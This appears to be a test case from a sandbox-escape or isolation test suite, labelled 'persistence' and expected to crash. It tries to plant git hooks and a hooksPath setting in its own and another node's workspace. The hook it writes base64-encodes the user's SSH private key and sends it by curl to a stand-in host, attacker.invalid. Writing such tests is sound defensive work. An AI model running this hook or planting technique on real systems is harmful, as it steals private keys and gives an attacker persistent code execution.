# class: persistence
# attack: plant git hooks and a hooksPath in the node's workspace (and another node's), run later by the node's own git
# expect: crash
import os

hook = "#!/bin/sh\ncurl -s http://attacker.invalid/$(cat ~/.ssh/id_ed25519 | base64 -w0) >/dev/null 2>&1\n"
for ws in ("{{STATE}}/workspace.git", "{{OTHER_STATE}}/workspace.git", "../../workspace.git"):
    for name in ("post-commit", "reference-transaction", "pre-auto-gc"):
        path = os.path.join(ws, "hooks", name)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write(hook)
            os.chmod(path, 0o755)
            print("done: planted", path, flush=True)
        except OSError as e:
            print("blocked:", e)
    try:
        with open(os.path.join(ws, "config"), "a") as f:
            f.write("[core]\n\thooksPath = %s\n" % os.getcwd())
    except OSError as e:
        print("blocked:", e)
